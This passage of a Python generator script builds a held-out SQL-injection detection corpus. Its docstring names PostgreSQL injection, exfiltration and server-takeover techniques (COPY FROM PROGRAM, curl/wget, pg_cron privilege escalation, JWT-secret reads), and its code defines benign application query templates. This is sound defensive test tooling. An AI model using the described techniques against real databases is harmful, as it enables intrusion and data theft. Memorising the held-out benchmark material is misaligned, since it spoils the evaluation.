#!/usr/bin/env python3
"""Generator for the fifteenth held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_fifteenth.py [OUTPUT]      # default: fifteenth.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions, with the bookkeeping of corpus_kit.py (as in
make_ninth.py to make_fourteenth.py); rows whose text occurs in any earlier
corpus (dev to fourteenth) are skipped.  2,814 rows: 1,316 attacks (46.8 %)
and 1,498 benign.  Written for generalization, so the templates, payload
lists and benign generators are new for this file:

* 75 application templates (`t15_<stack>_*`) on tables that none of the
  earlier corpora use (a vinyl pressing plant, an ice-road trucking firm, an
  ocular prosthetics lab, a rope-access crew, a change-ringing guild, a
  herbarium, a board-game cafe, an urban tree inventory, marathon timing, a
  camera-trap network, a sign-language interpreting agency, a wildfire
  lookout network, a velodrome, a millinery, a yarn dyeworks), each the SQL
  text one producer sends after splicing a request parameter into it:
  Node Knex.raw, Go pgx with fmt.Sprintf, Django raw() / .extra(), Rails
  where("#{}"), Perl Mojo::Pg, Python records / dataset, PHP Doctrine DBAL,
  Metabase questions with inlined filter values, Grafana panels (macros
  expanded, template variables interpolated, a `SET TIME ZONE ...; SELECT`
  pair), Superset virtual datasets (`IN ('...')` filter values,
  __timestamp), Hasura-generated SQL (coalesce(json_agg(...), '[]'),
  row_to_json of a "_root.base" derived table, json_build_object, LATERAL
  json_agg), PostgREST statements (the pgrst_source CTE and its
  total_result_set / page_total / body / response.headers tail, embedded
  LATERAL row_to_json, RPC calls with named arguments, ON CONFLICT upserts),
  Redash queries (its `/* Username: ..., Query ID: ... */` prefix, a `SET
  search_path TO ...; SELECT` pair), Kotlin jOOQ plain SQL (MERGE from a
  derived source) and Rust sea-orm Statement::from_string -- other
  parameters stay bound as $n.  The input lands in the slots extension-heavy
  PostgreSQL has: pgvector literals '[0.1,...]' and ARRAY[...]::vector lists
  ordered by <->, <=> and <#>; pg_trgm terms for %, <%, <<->, similarity()
  and word_similarity(); PostGIS WKT and GeoJSON strings, ST_MakePoint /
  ST_MakeEnvelope numbers, ST_DWithin radii and a KNN <-> ordering;
  TimescaleDB time_bucket() intervals beside first()/last(); pg_cron job
  names and cron expressions (cron.schedule, cron.alter_job); hstore keys
  and literals (->, ?, ?|, @>, hstore()); ltree paths and lquery patterns
  (<@, ~, nlevel); citext e-mails; full-text websearch_to_tsquery /
  to_tsquery strings; jsonpath expressions and strings for @? and @@;
  generate_subscripts, FILTER, ROLLUP with GROUPING, recursive CTEs with
  CYCLE, MERGE, COPY ... FROM STDIN options (DELIMITER, NULL), LISTEN
  channel names, pg_try_advisory_lock keys, FOR SHARE OF / FOR NO KEY
  UPDATE OF ... NOWAIT, window frames with EXCLUDE CURRENT ROW, ORDER BY
  ... USING <, TABLESAMPLE SYSTEM, plus sort columns and directions, quoted
  identifiers, LIMIT/OFFSET counts, IN and ARRAY lists and an E'' and a
  $memo$ body.  Where a breakout has to close more than brackets (a
  PostgREST CTE needs its main query, a Hasura derived table its aliases,
  a WKT string its remaining function arguments) the template says what an
  attacker who read the error types;
* attack payloads of two kinds.  The sqlmap_* families are sqlmap requests
  rebuilt from its PostgreSQL payload tests, weighted to the tests the
  earlier generators sent least (OR ... (NOT - comment), AND ... (subquery -
  comment), HAVING, Parameter replace (CASE) and (CASE - original value),
  PostgreSQL Parameter replace and Stacked queries boolean tests, the OR
  (CAST) test, error-based Stacked queries and Parameter replace
  (GENERATE_SERIES)), with detection inferences and enumeration inferences
  for switches the earlier files left out (--privileges with usecreatedb /
  usecatupd, --tables --exclude-sysdbs, --schema, --search -D / -C counts,
  --dump with --start, --count --where, --file-read pages of
  pg_largeobject, --passwords counts, --sql-query on pg_extension, cron.job
  and pg_stat_activity), spelled under --no-escape and --no-cast as well as
  by default; new boundaries (the `%'` LIKE form with '[RANDSTR]%'=, the
  pre-WHERE `') WHERE n=n` form weighted to UPDATE/INSERT statements, the
  backtick form, `'||(SELECT 'x' FROM DUAL WHERE n=n ...)||'`, `'+(SELECT
  ...)+'`, MySQL's `' IN BOOLEAN MODE)` ... `#`); UNION requests with
  --union-from, ORDER BY probing, --privileges, --tables --exclude-sysdbs,
  --file-read (ENCODE(data) from pg_largeobject) and dumps of pg_extension
  and cron.job; takeover statements spelled step by step (output table,
  COPY FROM PROGRAM, output count, lo_create, page INSERT and UPDATE,
  lo_export into a web root, sys_fileread / sys_bineval / sys_eval UDFs,
  cleanup); a few other back-ends' tests (MySQL query SLEEP, SQL Server IIF,
  Oracle CTXSYS.DRITHSX.SN, SQLite RANDOMBLOB); and for about one request
  in eight a tamper script none of the earlier corpora used (apostrophemask,
  sp_password, space2mssqlhash, space2mssqlblank, dunion) or a chain with
  randomcase.  The hand families are PostgreSQL techniques written for this
  file: tautologies through the extension operators (vector <->, <=>, <#>,
  pg_trgm %, <<%, <->, ST_DWithin / ST_Intersects / && / KNN <->, hstore ?,
  @>, ->, ltree <@ and ~, citext =, @@ on tsvectors, jsonpath @? and @@,
  time_bucket, generate_subscripts, FILTER, GROUPING) and open forms the
  template's quote closes; inference by get_bit, ascii BETWEEN, position,
  similarity / word_similarity, levenshtein, soundex, tsquery prefixes,
  bit shifts, sha256 nibbles, jsonpath starts with, citext comparison, and
  privilege and extension probes (has_function_privilege on pg_read_file,
  has_schema_privilege on cron, has_parameter_privilege, has_column_privilege
  on pg_authid.rolpassword, pg_has_role pg_write_server_files, extension
  versions, cron.database_name, pgrst.db_schemas, rolbypassrls, trust rules
  in pg_hba_file_rules); time by heavy extension functions (similarity over
  md5 series, ST_Buffer series, vector_norm of array_fill vectors, tsvector
  matching, time_bucket DISTINCT, hstore each(), point <-> cross joins),
  pg_sleep_for(make_interval()), void-cast sleeps and CASE probes; error
  leaks through extension types' input functions (vector, geometry,
  geography, box2d, ST_GeomFromText / ST_GeomFromGeoJSON, ltree, lquery,
  hstore, tsquery, jsonpath, cube, query_int, pg_snapshot, timestamptz,
  inet, time_bucket intervals) and conditional errors (vector dimension
  mismatch, mixed SRIDs, an empty ltree label, a bad hstore pair, a zero
  bucket width); UNION arms (parenthesised, DISTINCT, FETCH FIRST, ORDER BY
  n DESC) over pg_extension, cron.job and cron.job_run_details,
  pg_stat_statements, hdb_catalog.hdb_metadata, timescaledb_information,
  geometry_columns, pg_policies, pg_hba_file_rules, pg_ident_file_mappings,
  foreign servers and user mappings, pg_prepared_statements, replication
  slots, the WAL receiver's conninfo and the PostgREST JWT secret; stacked
  pg_cron schedules (DELETE, ALTER ROLE ... SUPERUSER, an every-minute
  sleep, a rewritten cron.job command), DROP EXTENSION postgis / vector,
  drop_chunks and remove_retention_policy, spatial_ref_sys wipes, BYPASSRLS
  roles, permissive policies, NOTIFY pgrst 'reload schema' and an exposed
  pg_catalog schema, a wiped Hasura metadata, an operator hijack of %;
  file and network access through file_fdw (program and filename),
  COPY FROM PROGRAM getent / nslookup / base64, COPY TO PROGRAM wget / curl
  -T / tar, ST_AsGeoJSON and vectors copied out, lo_from_bytea,
  lo_export of a decoded blob, pg_ls_dir, pg_stat_file, dblink host names
  built from hex, dblink_exec to a remote server, restore_command; DO
  blocks and functions that schedule cron jobs, hijack public.similarity
  and public.st_dwithin, exfiltrate over pg_notify or DNS, disable row-level
  security on every table, drop every hypertable's chunks, run plperlu
  backticks and plpython subprocess, with new dollar tags ($do$, $p1$, $Σ$,
  $__$, $k7$, $ß$, $body2$, ...); dollar-quoted ltree paths, vectors, hstore
  keys, jsonpaths and cron jobs; E'' hex and octal escapes, U&'' and U&""
  names (cron.job, similarity), unistr(); `'||...||'` splices of cron
  commands, geometries, embeddings, pg_stat_statements, hstore(row),
  Hasura metadata and JWT settings.  Breakouts close the slot's quote (and
  what the slot's template says) and end with `--` variants (`--@`, `--~`,
  `-- .`, `--$`, `-- )`), `;--`, `/*!` or `#`; a jsonpath string is closed
  with `")` first, an array literal with `}`.  Comment truncation uses new
  comment spellings (`--` followed by a no-break space, `@`, `$`, `~`, `)`,
  `"`, `%`, a backslash, `&`, ` .` or a word, `-- sqlmap`, `;;--`, an open `/*!`,
  `/*+` or `/*--`).  Obfuscation reshapes payloads outside their literals:
  alternating, last-letter and two-letter case, tab / CR-LF / form-feed runs
  around operators and after commas, `/*1*/`, `/**//**/`, `/*x<newline>y*/`,
  `/*&q=*/` and HTTP-parameter-pollution `/*&id=*/` comments, and no spaces
  (parenthesised operands, quoted relation names, `OR'...'`);
* benign rows from new input pools (names with apostrophes, SQL-looking
  business names, URLs and e-mails, JSON, long text, Unicode, whitespace,
  numbers as strings, punctuation, formatted codes, and typed values for the
  typed slots: vectors, WKT and GeoJSON, ltree paths and lquery patterns,
  hstore keys and pairs, jsonpaths, cron expressions, intervals, tsqueries,
  time zones, COPY delimiters and NULL strings), attack strings escaped
  correctly for their slot (`escaped_attack_string`), new complex generators
  (`cx15_*`: Django icontains / TrigramSimilarity / GeoDjango EWKB /
  annotate output, Rails ActiveRecord, Hasura queries and insert mutations,
  PostgREST pre-request set_config and reads, jOOQ, sea-orm, Doctrine DBAL,
  Knex, Mojo::Pg::Abstract and dataset statements; Superset, Metabase,
  Grafana and Redash chart SQL; pgvector, pg_trgm, PostGIS, hstore, ltree,
  full-text, jsonpath, TimescaleDB and array built-ins; Metabase and Redash
  comment prefixes, a dbt header, Rails query-log and Django sqlcommenter
  comments, pg_hint_plan hints on a KNN query, commented saved queries;
  recursive CTEs with SEARCH and CYCLE, an ltree ancestor walk, RANGE frames
  with EXCLUDE GROUP, time_bucket_gapfill with locf, LATERAL KNN,
  percentile_cont with FILTER, GROUPING SETS; UNION ALL / EXCEPT / INTERSECT
  / VALUES reports; CREATE EXTENSION, ivfflat and hnsw indexes, gist, gin
  and gin_trgm_ops indexes, hypertables, retention and compression
  policies, Django / Rails / Knex / sea-orm / Doctrine / Mojo migration
  bookkeeping; extension-typed tables, continuous aggregates, generated
  tsvector columns; batch inserts of vectors, geometries, unnest arrays and
  ltree upserts; pg_stat_statements, cron.job_run_details, hypertable and
  activity monitoring, ivfflat.probes / hnsw.ef_search / pg_trgm
  thresholds; transactions with SET LOCAL, FOR SHARE OF, advisory locks,
  LISTEN / UNLISTEN / NOTIFY; PREPARE of a KNN query; COPY composed from
  table, format and options; tool introspection (Django's table list,
  Rails' column query, geometry_columns, extension-owned types); a
  PostgREST RPC function and other bodies; hybrid trigram plus full-text
  search) and regression-test-style statements written for this file
  (`regress15:<file>.sql`, in the style of the extensions' own test suites:
  pgvector vector / halfvec / sparsevec / bit and ivfflat / hnsw, pg_trgm,
  hstore, ltree, citext, PostGIS, TimescaleDB, pg_cron, cube,
  earthdistance, fuzzystrmatch, intarray, pgcrypto, uuid-ossp, unaccent,
  tablefunc, btree_gist, isn, seg; and core CYCLE / SEARCH, MERGE, EXCLUDE
  frames, FILTER, GROUPING SETS, generate_subscripts, ORDER BY USING,
  TABLESAMPLE SYSTEM, FOR SHARE OF, LISTEN / UNLISTEN and COPY options).

Labelling: see corpus_kit.SlotCorpus; the five `escape_bypass_backslash`
rows are escaped the wrong way for their literal (addslashes into a
standard string, quote doubling only into E'').

Checked once against PostgreSQL 15.18's raw parser (throwaway cluster, each
statement sent as `SELECT 1/0;` + statement in one simple query, so nothing
runs; extension operators and types need no extension to parse): every
benign row parses; 1,012 of the 1,316 attacks parse and 304 do not (181 are
untampered PostgreSQL or generic sqlmap requests whose boundary does not fit
the slot -- the wrong number of brackets, a pre-WHERE `WHERE n=n` or HAVING
boundary in a SELECT, a `'||...||'` value in a SET or COPY option, a comment
that cuts off a CTE's main query, 33 of them ending in `#` and 2 in MySQL's
IN BOOLEAN MODE; 50 more are tampered, 23 by space2mssqlhash and 15 by
sp_password; one is another back-end's vector; 22 hand-written rows end in
`#` and 34 in an unterminated `/*!`, `/*+` or `/*--`; 16 others close a
subquery, a frame or a function call at the wrong place or comment out a
required tail).  There is no `parses` field, as in the seventh to
fourteenth corpora.
"""
import base64, os, random, re, struct, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (SQLMAP_FINGERPRINT, SlotCorpus, addslashes, bisection, by_template, chrs, closers, dollar_safe, double_quotes,  # noqa: E402
                        identifier_input, kind, load_earlier, marked, nulls, number_input, q, quoted_ident_breakout, randnum, rdate,
                        registry, regress_list, render, rstr, rts as ts, rword, sqlmap_delays, strip_andor, text_input, typed_input,
                        union_request, without_spaces)
import corpus_kit  # noqa: E402
from corpus_kit import ids  # noqa: E402
from functools import partial  # noqa: E402

SEED = 15151515
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth", "ninth", "tenth", "eleventh", "twelfth",
           "thirteenth", "fourteenth")
PG = "PostgreSQL"

# ---------------------------------------------------------------- application templates
# Each template is the text one stack sends to PostgreSQL after splicing a
# request parameter into its SQL (the stack is the second part of the name;
# other parameters stay bound as $n).  Slot types: q '...', e E'...',
# d $memo$...$memo$, qi "...", n number, list (numbers joined with commas),
# col (ORDER BY expression), dir (ASC/DESC), ident (part of a bare
# identifier).  A third element "typed:KIND" says the literal is read as a
# value of that kind (see typed_value; "" for none); a fourth is what closes
# the statement's open parts after the slot when more than brackets follow
# it (a CTE or derived table that needs its alias or main query, function
# arguments), for a stacked statement, a UNION or a truncating comment; a
# fifth is what closes the slot for a condition appended in its WHERE.
PGRST_TAIL = (" SELECT null::bigint AS total_result_set, pg_catalog.count(_postgrest_t) AS page_total, coalesce(json_agg(_postgrest_t), '[]') AS body, "
              "nullif(current_setting('response.headers', true), '') AS response_headers, nullif(current_setting('response.status', true), '') AS response_status "
              "FROM (SELECT * FROM pgrst_source) _postgrest_t")
REDASH_HEAD = ("/* Username: timing@velodrome.example, Query ID: 412, Queue: queries, Job ID: 5f0c2e7d-1b0a-4d7e-9c3f-2a6b8e1d4c90, "
               "Query Hash: 8d3e0f2b9a7c6d5e4f3a2b1c0d9e8f7a, Scheduled: False */ ")
T = [
 # vinyl pressing plant -- Node Knex.raw() with a template literal
 ("t15_knex_lacquer_nearest", "SELECT lacquer_id, catalogue_no, side, audio_embedding <=> '{a}'::vector AS cos_dist FROM lacquer_masters WHERE press_line = {b} ORDER BY cos_dist LIMIT {c}",
  {"a": ("q", ["[0.12,-0.03,0.88,0.41]", "[0.5,0.5,0.1,0.0]"], "typed:vec"), "b": ("n", ["3", "7"]), "c": ("n", ["5", "10"])}),
 ("t15_knex_stamper_wear", "SELECT stamper_id, pressings, last_inspected FROM stampers WHERE catalogue_no = '{a}' AND pressings > {b} ORDER BY pressings DESC FOR SHARE OF stampers",
  {"a": ("q", ["WARP-LP-331", "Sub Pop SP 1442"]), "b": ("n", ["1500", "800"])}),
 ("t15_knex_test_pressing", "INSERT INTO test_pressings (catalogue_no, verdict, notes, pressed_at) VALUES ('{a}', '{b}', E'{c}', now()) RETURNING test_id",
  {"a": ("q", ["WARP-LP-331", "RT-0092"]), "b": ("q", ["approved", "non-fill side B"]), "c": ("e", ["light crackle at 2:14; re-plate", "ok"])}),
 ("t15_knex_colour_blend", "SELECT blend_code, pellet_mix -> '{a}' AS share FROM vinyl_colour_blends WHERE pellet_mix @> '{b}'::hstore ORDER BY blend_code",
  {"a": ("q", ["oxblood", "clear"], "typed:hkey"), "b": ("q", ["finish=>marbled", "\"base\"=>\"black\""], "typed:hstore")}),
 ("t15_knex_orders_page", "SELECT order_id, label_name, copies, due_on FROM pressing_orders WHERE status = ANY('{{a}}'::text[]) ORDER BY {b} {c} LIMIT {d} OFFSET {e}",
  {"a": ("q", ["queued,plating", "pressing"], "typed:arr"), "b": ("col", ["due_on", "copies", "label_name"]), "c": ("dir", ["ASC", "DESC"]),
   "d": ("n", ["25", "50"]), "e": ("n", ["0", "100"])}),
 # ice-road trucking -- Go pgx, query text from fmt.Sprintf
 ("t15_pgx_ice_thickness", "SELECT time_bucket('{a}', measured_at) AS bucket, segment_id, min(thickness_cm) AS min_cm, last(thickness_cm, measured_at) AS latest_cm FROM ice_thickness_readings WHERE road_id = {b} AND measured_at > now() - interval '{c}' GROUP BY bucket, segment_id ORDER BY bucket DESC",
  {"a": ("q", ["1 hour", "15 minutes"], "typed:interval"), "b": ("n", ["2", "11"]), "c": ("q", ["2 days", "12 hours"], "typed:interval")}),
 ("t15_pgx_trucks_near", "SELECT truck_id, driver_name FROM convoy_positions WHERE ST_DWithin(position::geography, ST_SetSRID(ST_MakePoint({a}, {b}), 4326)::geography, {c}) ORDER BY reported_at DESC LIMIT 20",
  {"a": ("n", ["-114.37", "-112.9"], "", ", 62.45), 4326)::geography, 5000)", ", 62.45), 4326)::geography, 5000)"),
   "b": ("n", ["62.45", "64.1"], "", "), 4326)::geography, 5000)", "), 4326)::geography, 5000)"), "c": ("n", ["5000", "25000"])}),
 ("t15_pgx_segments_bbox", "SELECT segment_id, surface_state, ST_AsGeoJSON(geom) AS geojson FROM ice_road_segments WHERE geom && ST_MakeEnvelope({a}, {b}, {c}, {d}, 4326) AND surface_state <> 'closed'",
  {"a": ("n", ["-115.2", "-113"], "", ", 62, -113, 63, 4326)", ", 62, -113, 63, 4326)"), "b": ("n", ["62.1", "63.5"], "", ", -113, 63, 4326)", ", -113, 63, 4326)"),
   "c": ("n", ["-113.8", "-111.75"], "", ", 63, 4326)", ", 63, 4326)"), "d": ("n", ["63", "64.4"], "", ", 4326)", ", 4326)")}),
 ("t15_pgx_load_permit", "SELECT permit_no, gross_kg FROM load_permits WHERE road_id = {a} AND gross_kg <= {b} AND valid_during @> '{c}'::timestamptz FOR SHARE",
  {"a": ("n", ["2", "7"]), "b": ("n", ["38000", "63500"]), "c": ("q", ["2025-02-11 06:00-07", "2024-03-01 14:30"], "typed:ts")}),
 ("t15_pgx_checkpoint_log", "INSERT INTO checkpoint_crossings (truck_id, checkpoint, crossed_at, remarks) VALUES ({a}, '{b}', now(), $memo${c}$memo$)",
  {"a": ("n", ["417", "1022"]), "b": ("q", ["Gordon Lake", "Km 172 portage"]), "c": ("d", ["chains on, 25 km/h over pressure ridge", "wait 30 min; convoy spacing 500 m"])}),
 # ocular prosthetics lab -- Django raw() and .extra()
 ("t15_django_iris_match", "SELECT \"ocular_irisscan\".\"id\", \"ocular_irisscan\".\"patient_id\" FROM \"ocular_irisscan\" WHERE \"ocular_irisscan\".\"clinic_id\" = {a} ORDER BY \"ocular_irisscan\".\"colour_vec\" <-> '{b}' LIMIT 5",
  {"a": ("n", ["4", "12"]), "b": ("q", ["[0.31,0.22,0.14]", "[0.6,0.45,0.3]"], "typed:vec")}),
 ("t15_django_shell_measure", "SELECT \"ocular_shell\".\"id\", \"ocular_shell\".\"measurements\" FROM \"ocular_shell\" WHERE (\"ocular_shell\".\"measurements\" ? '{a}') AND \"ocular_shell\".\"patient_id\" = {b}",
  {"a": ("q", ["limbus_mm", "iris_diameter_mm"], "typed:hkey"), "b": ("n", ["3310", "87"])}),
 ("t15_django_layer_check", "SELECT (\"ocular_painting\".\"layers\" @? '{a}') AS \"has_layer\", \"ocular_painting\".\"id\" FROM \"ocular_painting\" WHERE \"ocular_painting\".\"artist\" = '{b}'",
  {"a": ("q", ["$.layers[*] ? (@.pigment == \"sclera white\")", "$.veins"], "typed:jpath"), "b": ("q", ["Ingrid Solberg", "R. Okafor"])}),
 ("t15_django_fittings", "SELECT * FROM ocular_fitting WHERE practitioner ILIKE '%{a}%' AND fitted_on >= '{b}' ORDER BY fitted_on {c}",
  {"a": ("q", ["okafor", "Solberg"]), "b": ("q", ["2025-01-01", "2024-06-15"], "typed:date"), "c": ("dir", ["DESC", "ASC"])}),
 ("t15_django_patient_trgm", "SELECT id, display_name FROM ocular_patient WHERE display_name % '{a}' ORDER BY display_name <-> '{b}' LIMIT 10",
  {"a": ("q", ["Margarethe", "O'Rourke"]), "b": ("q", ["Margarethe", "O'Rourke"])}),
 # rope-access crew -- Rails where("... #{params}")
 ("t15_rails_anchors_near", "SELECT \"anchors\".* FROM \"anchors\" WHERE (ST_DWithin(anchors.location, ST_GeomFromText('{a}', 4326), {b})) AND \"anchors\".\"retired_at\" IS NULL ORDER BY \"anchors\".\"id\" ASC LIMIT 50",
  {"a": ("q", ["POINT(-0.1276 51.5072)", "POINT(2.2945 48.8584)"], "typed:wkt", ", 4326), 0.001))", ", 4326), 0.001))"), "b": ("n", ["0.001", "0.0005"])}),
 ("t15_rails_inspections", "SELECT \"anchor_inspections\".* FROM \"anchor_inspections\" WHERE \"anchor_inspections\".\"anchor_id\" = $1 AND (result = '{a}') ORDER BY inspected_on {b}",
  {"a": ("q", ["pass", "load test failed"]), "b": ("dir", ["DESC", "ASC"])}),
 ("t15_rails_facade_zones", "SELECT \"facade_zones\".* FROM \"facade_zones\" WHERE (ST_Intersects(outline, ST_GeomFromGeoJSON('{a}'))) AND \"facade_zones\".\"building_id\" = {b}",
  {"a": ("q", ["{\"type\":\"Point\",\"coordinates\":[-0.0877,51.5045]}", "{\"type\":\"LineString\",\"coordinates\":[[0,0],[1,1]]}"], "typed:geojson"), "b": ("n", ["88", "1204"])}),
 ("t15_rails_rope_hours", "SELECT technician_id, SUM(rope_hours) AS hours FROM rope_logbook_entries WHERE logged_on BETWEEN '{a}' AND '{b}' GROUP BY technician_id HAVING SUM(rope_hours) >= {c} ORDER BY hours DESC",
  {"a": ("q", ["2025-01-01", "2024-04-01"], "typed:date"), "b": ("q", ["2025-03-31", "2024-06-30"], "typed:date"), "c": ("n", ["40", "100"])}),
 ("t15_rails_cert_cron", "SELECT cron.schedule('{a}', '{b}', 'CALL expire_rope_certificates()')",
  {"a": ("q", ["expire-certs", "nightly-irata-check"]), "b": ("q", ["0 3 * * *", "*/30 * * * *"], "typed:cron")}),
 # change-ringing guild -- Perl Mojo::Pg, $db->query() on an interpolated string
 ("t15_mojo_towers_under", "SELECT tower_id, dedication, bells FROM ringing_towers WHERE diocese_path <@ '{a}' AND bells >= {b} ORDER BY diocese_path, dedication",
  {"a": ("q", ["England.Oxford.Berkshire", "Wales.StDavids"], "typed:ltree"), "b": ("n", ["6", "8"])}),
 ("t15_mojo_towers_match", "SELECT tower_id, dedication FROM ringing_towers WHERE diocese_path ~ '{a}' ORDER BY nlevel(diocese_path), tower_id LIMIT {b}",
  {"a": ("q", ["*.Oxford.*", "England.*{1}.Devon"], "typed:lquery"), "b": ("n", ["20", "50"])}),
 ("t15_mojo_methods", "SELECT method_name, stage, similarity(method_name, '{a}') AS score FROM ringing_methods WHERE method_name % '{b}' ORDER BY score DESC LIMIT 15",
  {"a": ("q", ["Cambridge Surprise", "Grandsire"]), "b": ("q", ["Cambridge Surprise", "Grandsire"])}),
 ("t15_mojo_peal_footnote", "UPDATE peal_records SET footnote = E'{a}' WHERE peal_id = {b} RETURNING peal_id, footnote",
  {"a": ("e", ["first peal on the back eight", "rung half-muffled; in memoriam"]), "b": ("n", ["20931", "788"])}),
 ("t15_mojo_listen", "LISTEN peal_board_{a}",
  {"a": ("ident", ["york", "norwich"])}),
 # herbarium -- Python records / dataset, db.query(f"...")
 ("t15_records_taxon_subtree", "SELECT sheet_id, barcode, taxon_path FROM herbarium_sheets WHERE taxon_path <@ '{a}'::ltree AND collected_year BETWEEN {b} AND {c} ORDER BY taxon_path",
  {"a": ("q", ["Plantae.Rosaceae.Prunus", "Plantae.Fagaceae"], "typed:ltree"), "b": ("n", ["1890", "1950"]), "c": ("n", ["1949", "2020"])}),
 ("t15_records_label_search", "SELECT sheet_id, barcode, word_similarity('{a}', label_text) AS ws FROM herbarium_sheets WHERE collector = '{b}' ORDER BY ws DESC LIMIT 25",
  {"a": ("q", ["roadside near Aviemore", "limestone pavement"]), "b": ("q", ["G. C. Druce", "M. Lacaita"])}),
 ("t15_records_det_history", "SELECT sheet_id, determinations FROM herbarium_sheets WHERE determinations @? '$[*] ? (@.by == \"{a}\")'",
  {"a": ("q", ["A. Stace", "Lindley"], "typed:jpstr")}),
 ("t15_dataset_loans", "SELECT loan_id, borrower_institution, sheets FROM specimen_loans WHERE borrower_institution = '{a}' AND due_back < '{b}' ORDER BY due_back",
  {"a": ("q", ["Kew (K)", "Naturalis (L)"]), "b": ("q", ["2025-12-31", "2026-06-30"], "typed:date")}),
 ("t15_dataset_duplicates", "SELECT s.sheet_id, s.duplicates[i] AS duplicate_barcode FROM herbarium_sheets s, generate_subscripts(s.duplicates, 1) AS i WHERE s.sheet_id IN ({a})",
  {"a": ("list", ["10442, 10443", "9001"])}),
 # board-game cafe -- PHP Doctrine DBAL, executeQuery() on a concatenated string
 ("t15_dbal_game_search", "SELECT g.game_id, g.title FROM cafe_games g WHERE '{a}' <% g.title AND g.min_players <= {b} ORDER BY '{c}' <<-> g.title LIMIT 12",
  {"a": ("q", ["Carcassonne", "Ticket to Ride"]), "b": ("n", ["2", "5"]), "c": ("q", ["Carcassonne", "Ticket to Ride"])}),
 ("t15_dbal_recommend", "SELECT g.game_id, g.title FROM cafe_games g WHERE g.game_id <> {a} ORDER BY g.taste_vec <#> (SELECT taste_vec FROM cafe_games WHERE game_id = {b}) LIMIT {c}",
  {"a": ("n", ["118", "42"]), "b": ("n", ["118", "42"]), "c": ("n", ["6", "12"])}),
 ("t15_dbal_member_email", "SELECT member_id, nickname, loyalty_stamps FROM cafe_members WHERE email = '{a}'::citext AND banned = false",
  {"a": ("q", ["Meeple.Fan@example.com", "dice@example.org"], "typed:email")}),
 ("t15_dbal_free_tables", "SELECT t.table_no, t.seats FROM cafe_tables t WHERE t.seats >= {a} AND NOT EXISTS (SELECT 1 FROM table_bookings b WHERE b.table_no = t.table_no AND b.during && tstzrange('{b}', '{c}')) ORDER BY t.seats USING <",
  {"a": ("n", ["4", "6"]), "b": ("q", ["2025-05-17 18:00", "2024-12-31 20:00+00"], "typed:ts"), "c": ("q", ["2025-05-17 22:00", "2025-01-01 01:00+00"], "typed:ts")}),
 ("t15_dbal_sleeves", "SELECT sleeve_size, count(*) AS games FROM cafe_games WHERE '{a}' = ANY(mechanics) GROUP BY ROLLUP (sleeve_size) ORDER BY GROUPING(sleeve_size), sleeve_size",
  {"a": ("q", ["deck building", "worker placement"])}),
 # urban tree inventory -- Metabase native questions with the filter values inlined
 ("t15_metabase_species", "SELECT \"public\".\"street_trees\".\"species\" AS \"species\", count(*) AS \"count\" FROM \"public\".\"street_trees\" WHERE \"public\".\"street_trees\".\"ward\" = '{a}' GROUP BY \"public\".\"street_trees\".\"species\" ORDER BY \"count\" DESC, \"public\".\"street_trees\".\"species\" ASC LIMIT 1048575",
  {"a": ("q", ["Harbourside", "St. Ann's"])}),
 ("t15_metabase_dbh_bins", "SELECT width_bucket(\"public\".\"street_trees\".\"dbh_cm\", 0, 200, {a}) AS \"dbh_bin\", count(*) AS \"count\" FROM \"public\".\"street_trees\" WHERE \"public\".\"street_trees\".\"planted_year\" >= {b} GROUP BY 1 ORDER BY 1 ASC",
  {"a": ("n", ["20", "8"]), "b": ("n", ["1960", "2005"])}),
 ("t15_metabase_polygon", "SELECT \"public\".\"street_trees\".\"tree_id\" AS \"tree_id\", \"public\".\"street_trees\".\"species\" AS \"species\" FROM \"public\".\"street_trees\" WHERE ST_Intersects(\"public\".\"street_trees\".\"geom\", ST_GeomFromText('{a}', 4326)) LIMIT 2000",
  {"a": ("q", ["POLYGON((-79.40 43.65,-79.38 43.65,-79.38 43.67,-79.40 43.67,-79.40 43.65))", "POLYGON((0 0,0 1,1 1,1 0,0 0))"], "typed:wkt", ", 4326))", ", 4326))")}),
 ("t15_metabase_attrs", "SELECT \"public\".\"street_trees\".\"tree_id\" AS \"tree_id\", \"public\".\"street_trees\".\"attrs\" -> '{a}' AS \"attr\" FROM \"public\".\"street_trees\" WHERE \"public\".\"street_trees\".\"attrs\" @> hstore('{b}', '{c}') LIMIT 2000",
  {"a": ("q", ["pit_type", "root_barrier"], "typed:hkey"), "b": ("q", ["condition", "owner"], "typed:hkey"), "c": ("q", ["fair", "city"])}),
 ("t15_metabase_workorders", "SELECT date_trunc('month', \"public\".\"tree_work_orders\".\"completed_at\") AS \"completed_at\", count(*) AS \"count\" FROM \"public\".\"tree_work_orders\" WHERE (\"public\".\"tree_work_orders\".\"completed_at\" >= timestamp with time zone '{a}' AND \"public\".\"tree_work_orders\".\"completed_at\" < timestamp with time zone '{b}') GROUP BY 1 ORDER BY 1 ASC",
  {"a": ("q", ["2025-01-01 00:00:00.000Z", "2024-04-01 00:00:00.000-04:00"], "typed:ts"), "b": ("q", ["2025-07-01 00:00:00.000Z", "2024-10-01 00:00:00.000-04:00"], "typed:ts")}),
 # marathon timing -- Grafana panels, macros expanded and template variables interpolated
 ("t15_grafana_mat_rate", "SELECT time_bucket('{a}', crossed_at) AS \"time\", count(*) AS \"runners\" FROM chip_crossings WHERE crossed_at BETWEEN '2025-04-27T07:00:00Z' AND '2025-04-27T14:00:00Z' AND mat_id IN ({b}) GROUP BY 1 ORDER BY 1",
  {"a": ("q", ["1m", "5 minutes"], "typed:interval"), "b": ("list", ["3, 5, 8", "21"])}),
 ("t15_grafana_wave_splits", "SELECT time_bucket('5 minutes', crossed_at) AS \"time\", first(split_seconds, crossed_at) AS \"first\", last(split_seconds, crossed_at) AS \"last\" FROM chip_crossings WHERE race_id = {a} AND wave = '{b}' GROUP BY 1 ORDER BY 1",
  {"a": ("n", ["2025", "19"]), "b": ("q", ["elite", "C"])}),
 ("t15_grafana_age_group", "SELECT bib AS \"Bib\", runner_name AS \"Runner\", gun_time AS \"Gun\" FROM marathon_results WHERE race_id = {a} AND age_group = '{b}' ORDER BY gun_time LIMIT {c}",
  {"a": ("n", ["2025", "31"]), "b": ("q", ["F40-44", "M55-59"]), "c": ("n", ["100", "25"])}),
